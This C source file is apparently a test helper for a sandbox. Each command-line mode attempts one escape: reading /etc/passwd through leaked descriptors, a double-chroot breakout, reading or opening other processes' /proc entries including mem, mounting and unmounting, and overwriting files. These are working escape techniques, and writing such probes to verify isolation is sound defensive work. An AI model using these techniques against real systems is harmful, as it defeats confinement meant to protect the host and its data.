#include "attack.h"
#include <sys/mount.h>
#include <sys/stat.h>

static long read_file(int directory, const char *path) {
    char text[64];
    int file = openat(directory, path, O_RDONLY);
    if (file < 0) return -1;
    return read(file, text, sizeof text) >= 0 ? 0 : -1;
}

static long write_file(const char *path) {
    int file = open(path, O_WRONLY | O_TRUNC);
    if (file < 0) return -1;
    return write(file, "overwritten", 11);
}

/* Look for `path` from every descriptor that may have been left open, and from above it. */
static long by_held_descriptor(const char *path) {
    char above[512] = "";
    int last = ENOENT;
    for (int descriptor = 0; descriptor < 1024; descriptor++) {
        strcpy(above, "");
        for (int depth = 0; depth < 8; depth++) {
            char whole[600];
            snprintf(whole, sizeof whole, "%s%s", above, path + 1);
            if (read_file(descriptor, whole) == 0) return 0;
            if (errno != EBADF && errno != ENOTDIR) last = errno;
            strcat(above, "../");
        }
        if (fchdir(descriptor) == 0 && read_file(AT_FDCWD, "../../../../../../../../etc/passwd") == 0) return 0;
    }
    errno = last;
    return -1;
}

/* Out of a root directory that was only changed, not exchanged. */
static long out_of_root(const char *jail, const char *secret) {
    if (unshare(CLONE_NEWUSER) != 0) return -1;
    if (strcmp(jail, "-")) {
        need(chroot(jail) == 0, "chroot into the jail");
        need(chdir("/") == 0, "chdir");
    }
    mkdir("/tmp/inner", 0755);
    if (chroot("/tmp/inner") != 0) return -1;
    for (int depth = 0; depth < 64; depth++)
        if (chdir("..") != 0) return -1;
    if (chroot(".") != 0) return -1;
    return read_file(AT_FDCWD, secret);
}

/* What /proc shows of another process. Each entry that could be used counts. */
static long of_process(const char *pid, const char *entry) {
    char path[64], text[4096];
    struct stat status;
    snprintf(path, sizeof path, "/proc/%s/%s", pid, entry);
    if (!strcmp(entry, "root") || !strcmp(entry, "cwd") || !strcmp(entry, "exe")) {
        if (readlink(path, text, sizeof text) < 0) return -1;
        return stat(path, &status);
    }
    if (!strcmp(entry, "fd")) {
        int directory = open(path, O_RDONLY | O_DIRECTORY);
        return directory < 0 ? -1 : syscall(SYS_getdents64, directory, text, sizeof text);
    }
    int file = open(path, !strcmp(entry, "mem") ? O_RDWR : O_RDONLY);
    if (file < 0) return -1;
    if (!strcmp(entry, "mem")) return file;
    return read(file, text, sizeof text) > 0 ? 0 : -1;
}

/* The same, with a process of the same user as the target. */
static void of_child(const char *entry) {
    char pid[16];
    pid_t child = fork();
    need(child >= 0, "fork");
    if (child == 0)
        for (;;) pause();
    snprintf(pid, sizeof pid, "%d", child);
    long result = of_process(pid, entry);
    int error = errno;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    errno = error;
    finish(result);
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "read")) finish(read_file(AT_FDCWD, argv[2]));
    if (!strcmp(what, "write")) finish(write_file(argv[2]));
    if (!strcmp(what, "held")) finish(by_held_descriptor(argv[2]));
    if (!strcmp(what, "chroot")) finish(out_of_root(argv[2], argv[3]));
    if (!strcmp(what, "proc")) finish(of_process(argv[2], argv[3]));
    if (!strcmp(what, "proc-child")) of_child(argv[2]);
    if (!strcmp(what, "mount")) finish(mount("none", argv[2], "tmpfs", 0, NULL));
    if (!strcmp(what, "remount")) finish(mount("none", argv[2], NULL, MS_REMOUNT | MS_BIND, NULL));
    if (!strcmp(what, "umount")) finish(umount2(argv[2], MNT_DETACH));
    /* Say that it runs, then wait for the end of the input. */
    if (!strcmp(what, "hold")) {
        char byte;
        say("running\n");
        while (read(0, &byte, 1) > 0) continue;
        finish(0);
    }
    if (!strcmp(what, "write-later")) {
        char byte;
        say("running\n");
        while (read(0, &byte, 1) > 0) continue;
        finish(write_file(argv[2]));
    }
    say("broken: unknown attack\n");
    return BROKEN;
}
